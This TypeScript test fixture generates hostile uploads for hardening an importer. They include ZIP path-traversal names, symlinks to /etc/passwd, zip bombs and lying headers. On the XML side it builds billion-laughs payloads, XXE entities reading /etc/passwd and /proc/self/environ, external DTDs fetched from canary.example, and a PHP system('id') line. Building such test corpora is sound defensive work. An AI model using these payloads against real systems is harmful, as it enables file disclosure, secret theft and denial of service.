import { crc32, deflateRawSync } from "node:zlib";
import { type RawEntry, rawZip } from "../word/raw-zip";
import { CANARY } from "./calm-course";

/** A file to send, by what is wrong with it. */
export type Upload = readonly [what: string, bytes: () => Uint8Array | string];

const NAMES: readonly string[] = [
  `../${CANARY.file}`,
  `../../../../../../../../tmp/${CANARY.file}`,
  `a/../../${CANARY.file}`,
  `a/b/../../../${CANARY.file}`,
  `./../${CANARY.file}`,
  `/tmp/${CANARY.file}`,
  `//tmp/${CANARY.file}`,
  `\\tmp\\${CANARY.file}`,
  `..\\${CANARY.file}`,
  `C:\\${CANARY.file}`,
  `C:${CANARY.file}`,
  `c:/${CANARY.file}`,
  `\\\\canary.example\\${CANARY.file}`,
  `file:///tmp/${CANARY.file}`,
  `%2e%2e/${CANARY.file}`,
  `\uff0e\uff0e/${CANARY.file}`,
  `\u2025/${CANARY.file}`,
  `..\u2215${CANARY.file}`,
  `..\u2044${CANARY.file}`,
  `${CANARY.file}\u0000.xml`,
  `${CANARY.file}.xml\n`,
  `${CANARY.file}\u202elmx.`,
  `\ufeff${CANARY.file}`,
  "__proto__/course.yaml",
  "constructor",
  "lessons/../course.yaml",
  "lessons/__proto__.mdx",
  "lessons/<script>.mdx",
  "figures/../../x.svg",
  ".",
  "..",
  "",
  "a/",
  "CON",
  "aux.xml",
  "n".repeat(60_000),
  `${"d/".repeat(20_000)}x`,
];

const LIE = 0xffffffff;
const bomb = (megabytes: number) => deflateRawSync(Buffer.alloc(megabytes * 1_000_000));

/** What an entry says its name is in UTF-8, whatever its name says (PKWARE, 4.6.9). */
function unicodeName(name: string, other: string): Buffer {
  const label = Buffer.from(other);
  const head = Buffer.alloc(9);
  head.writeUInt16LE(0x7075, 0);
  head.writeUInt16LE(label.length + 5, 2);
  head.writeUInt8(1, 4);
  head.writeUInt32LE(crc32(name), 5);
  return Buffer.concat([head, label]);
}

/** Sizes of 64 bits, beyond all that there is. */
function largeSizes(): Buffer {
  const field = Buffer.alloc(20, 255);
  field.writeUInt16LE(1, 0);
  field.writeUInt16LE(16, 2);
  return field;
}

/** The files of a package that is sound, with something that is not. */
export function zipsAround(sound: readonly RawEntry[]): Upload[] {
  const whole = () => Buffer.from(rawZip(sound));
  const first = sound[0]?.name ?? "x";
  const withEntry =
    (...more: RawEntry[]) =>
    () =>
      rawZip([...sound, ...more]);
  return [
    ...NAMES.map(
      (name): Upload => [`a file named ${name.slice(0, 40)}`, withEntry({ name, data: "x" })],
    ),
    ["a link", withEntry({ name: "link.xml", data: "/etc/passwd", mode: 0o120777 })],
    [
      "a link in place of a file",
      () => rawZip([{ name: first, data: "/etc/passwd", mode: 0o120777 }]),
    ],
    ["a device", withEntry({ name: "device.xml", data: "x", mode: 0o020666 })],
    ["a name twice", withEntry({ name: first, data: "<x/>" })],
    ["a name twice in capitals", withEntry({ name: first.toUpperCase(), data: "<x/>" })],
    [
      "a name twice in other accents",
      withEntry({ name: "\u00e9.xml", data: "x" }, { name: "e\u0301.xml", data: "y" }),
    ],
    [
      "another name before the bytes",
      withEntry({ name: "calm.xml", localName: `../${CANARY.file}`, data: "x" }),
    ],
    [
      "another name in Unicode",
      withEntry({
        name: "calm.xml",
        extra: unicodeName("calm.xml", `../${CANARY.file}`),
        data: "x",
      }),
    ],
    [
      "sizes of the larger kind that lie",
      withEntry({ name: "large.xml", extra: largeSizes(), size: LIE, data: "x" }),
    ],
    [
      "a field beside a name that never ends",
      withEntry({ name: "odd.xml", extra: Buffer.from([1, 0, 255, 255]), data: "x" }),
    ],
    [
      "a folder that is a file",
      withEntry({ name: "figures/", data: "words", mode: 0o40755 }, { name: "figures", data: "x" }),
    ],
    ["a thousand folders", withEntry({ name: `${"a/".repeat(1_000)}x.xml`, data: "x" })],
    [
      "zips in zips, forty deep",
      () => {
        let inner = rawZip(sound);
        for (let deep = 0; deep < 40; deep++) inner = rawZip([{ name: "inner.zip", data: inner }]);
        return inner;
      },
    ],
    ["a locked file", withEntry({ name: "locked.xml", data: "x".repeat(13), flags: 1 })],
    [
      "a strongly locked file",
      withEntry({ name: "locked.xml", data: "x".repeat(13), flags: 0x41 }),
    ],
    ["a wrong sum", () => rawZip(sound.map((entry) => ({ ...entry, sum: 1 })))],
    ["sizes that are too small", () => rawZip(sound.map((entry) => ({ ...entry, size: 1 })))],
    [
      "sizes that are too large",
      () => rawZip(sound.map((entry) => ({ ...entry, size: 99_999_999 }))),
    ],
    [
      "sizes of the larger kind, without them",
      () => rawZip(sound.map((entry) => ({ ...entry, size: LIE }))),
    ],
    [
      "places beyond the end",
      () => rawZip(sound.map((entry) => ({ ...entry, place: 0x7fffffff }))),
    ],
    ["places of the larger kind", () => rawZip(sound.map((entry) => ({ ...entry, place: LIE })))],
    ["files that lie on one another", () => rawZip(sound.map((entry) => ({ ...entry, place: 0 })))],
    [
      "one bomb under a thousand names",
      () =>
        rawZip([
          { name: "0.xml", packed: bomb(9), size: 9_000_000, method: 8 },
          ...Array.from({ length: 1_000 }, (_, nth) => ({
            name: `${nth + 1}.xml`,
            packed: Buffer.alloc(0),
            size: 9_000_000,
            method: 8,
            place: 0,
          })),
          ...sound,
        ]),
    ],
    ["an unknown way of packing", withEntry({ name: "odd.xml", data: "x", method: 99 })],
    ["a bomb", withEntry({ name: "bomb.xml", packed: bomb(100), size: 100_000_000, method: 8 })],
    [
      "a bomb that says little",
      withEntry({ name: "bomb.xml", packed: bomb(100), size: 100, method: 8 }),
    ],
    [
      "many small bombs",
      withEntry(
        ...Array.from({ length: 60 }, (_, nth) => ({
          name: `bomb-${nth}.xml`,
          packed: bomb(1),
          size: 1_000_000,
          method: 8,
        })),
      ),
    ],
    [
      "zips in zips",
      withEntry({ name: "inner.zip", data: rawZip([{ name: "inner.zip", data: rawZip(sound) }]) }),
    ],
    [
      "a hundred thousand files",
      withEntry(...Array.from({ length: 100_000 }, (_, nth) => ({ name: `${nth}.xml`, data: "" }))),
    ],
    ["a zip that ends early", () => whole().subarray(0, -30)],
    ["a zip that begins late", () => Buffer.concat([Buffer.alloc(500, 80), whole()])],
    ["a zip in a picture", () => Buffer.concat([Buffer.from("\u0089PNG\r\n\u001a\n"), whole()])],
    [
      "a zip with bytes turned over",
      () => whole().map((byte, at) => (at % 97 === 13 ? byte ^ 255 : byte)),
    ],
    ["a zip of a comment", () => Buffer.concat([whole().subarray(0, -2), Buffer.from([255, 255])])],
    ["two zips", () => Buffer.concat([whole(), whole()])],
    ["only the end of a zip", () => Buffer.from("PK\u0005\u0006".padEnd(22, "\u0000"))],
    ["two letters", () => "PK"],
    ["a RAR", () => "Rar!\u001a\u0007\u0001"],
    ["a gzip", () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])],
  ];
}

const LAUGHS = `<!DOCTYPE l [<!ENTITY a "lol">${"bcdefghij".replace(/./g, (name, at) => `<!ENTITY ${name} "${`&${"abcdefghi"[at]};`.repeat(10)}">`)}]>`;
const XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"';
const QUADRATIC = `<!DOCTYPE q [<!ENTITY a "${"x".repeat(50_000)}">]>`;

/** XML of a root of any format, with everything that some reader of XML does for it. */
export function xmlAround(root: string, inside: string): Upload[] {
  const xml = (before: string, content: string, attributes = "") =>
    `<?xml version="1.0"?>${before}<${root}${attributes}>${content}${inside}</${root}>`;
  return [
    ["a billion laughs", () => xml(LAUGHS, "&j;")],
    ["a quadratic bomb", () => xml(QUADRATIC, "&a;".repeat(50_000))],
    ["an outer document type", () => xml('<!DOCTYPE x SYSTEM "https://canary.example/x.dtd">', "")],
    [
      "a public document type",
      () => xml('<!DOCTYPE x PUBLIC "-//X" "https://canary.example/x.dtd">', ""),
    ],
    [
      "a file as an entity",
      () => xml('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
    ],
    [
      "the environment as an entity",
      () => xml('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///proc/self/environ">]>', "&a;"),
    ],
    [
      "parameter entities",
      () =>
        xml('<!DOCTYPE x [<!ENTITY % a SYSTEM "https://canary.example/x.dtd"> %a; %b;]>', "&c;"),
    ],
    ["a document type in small letters", () => xml('<!doctype x [<!entity a "b">]>', "&a;")],
    ["an entity of HTML", () => xml("", "&nbsp;")],
    ["an entity of no number", () => xml("", "&#x110000;&#xd800;&#0;")],
    [
      "an inclusion",
      () => xml("", '<xi:include href="file:///etc/passwd" parse="text"/>', ` ${XI}`),
    ],
    [
      "a stylesheet",
      () => xml('<?xml-stylesheet type="text/xsl" href="https://canary.example/x.xsl"?>', ""),
    ],
    ["an instruction of PHP", () => xml("<?php system('id') ?>", "")],
    [
      "a schema elsewhere",
      () =>
        xml(
          "",
          "",
          ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="https://canary.example/x.xsd"',
        ),
    ],
    ["ten thousand levels", () => xml("", `${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`)],
    ["levels that never end", () => `<${root}>${"<a>".repeat(100_000)}`],
    ["an attribute of four megabytes", () => xml("", "", ` a="${"x".repeat(4_000_000)}"`)],
    [
      "ten thousand attributes",
      () => xml("", "", Array.from({ length: 10_000 }, (_, nth) => ` a${nth}=""`).join("")),
    ],
    ["a name of a megabyte", () => xml("", `<${"n".repeat(1_000_000)}/>`)],
    ["a hundred thousand elements", () => xml("", "<a/>".repeat(100_000))],
    [
      "attributes of the prototype",
      () => xml("", '<__proto__ __proto__="x" constructor="y"><constructor/></__proto__>'),
    ],
    ["UTF-16", () => Buffer.from(`\ufeff${xml("", "")}`, "utf16le")],
    ["UTF-16 the other way round", () => Buffer.from(`\ufeff${xml("", "")}`, "utf16le").swap16()],
    [
      "UTF-16 that hides a document type",
      () => Buffer.from(`\ufeff${xml(LAUGHS, "&j;")}`, "utf16le"),
    ],
    [
      "an encoding that is a lie",
      () => xml("", "\u00e9").replace('"1.0"', '"1.0" encoding="UTF-16"'),
    ],
    ["UTF-7", () => xml("", "+ADw-script+AD4-").replace('"1.0"', '"1.0" encoding="UTF-7"')],
    ["an encoding of banks", () => xml("", "").replace('"1.0"', '"1.0" encoding="IBM037"')],
    ["bytes that are no text", () => Buffer.from([0x3c, 0xff, 0xfe, 0x3e])],
    ["XML of version 1.1", () => xml("", "\u0085&#1;").replace('"1.0"', '"1.1"')],
    ["CDATA with a script", () => xml("", "<![CDATA[<script>alert(1)</script>]]>")],
    ["a comment that is too long", () => xml("", `<!--${"-x".repeat(500_000)}-->`)],
    ["two roots", () => `${xml("", "")}<${root}/>`],
    ["no end", () => `<${root}>`],
  ];
}
